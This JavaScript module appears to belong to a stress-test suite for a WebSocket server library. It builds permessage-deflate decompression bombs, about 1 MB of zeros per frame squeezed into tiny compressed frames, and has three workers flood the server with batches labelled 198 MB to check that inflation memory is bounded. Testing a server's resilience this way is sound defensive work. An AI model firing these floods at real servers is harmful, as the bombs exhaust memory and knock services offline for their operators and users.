import { constants, deflateRawSync } from "node:zlib";
import { frame } from "../line.mjs";

/* As permessage-deflate wants it: without the four bytes that end a flush. */
function deflated(words) {
  const bytes = deflateRawSync(words, { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  return frame(1, bytes.subarray(0, bytes.length - 4), { compressed: true });
}

const EXTENSION = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n";

const bombs = (name, event) => ({
  name, on: ["library"], least: 2,
  proves: "what is inflated in one pass is bounded by the memory, not by the bytes on the wire",
  async run(context) {
    const bomb = deflated(`42["${event}","${"0".repeat(990_000)}"]`);
    const batch = Buffer.concat(Array(200).fill(bomb));
    await context.each(3, async () => {
      while (context.isRunning()) {
        const socket = await context.joined({ path: "/deflate/", headers: EXTENSION, read: true });
        await context.flood(socket, batch, "batches of 198 MB");
      }
    });
  },
});

export default [
  bombs("inflate bombs that nobody listens to", "nobody"),
  bombs("inflate bombs for a slow handler", "slow"),
];
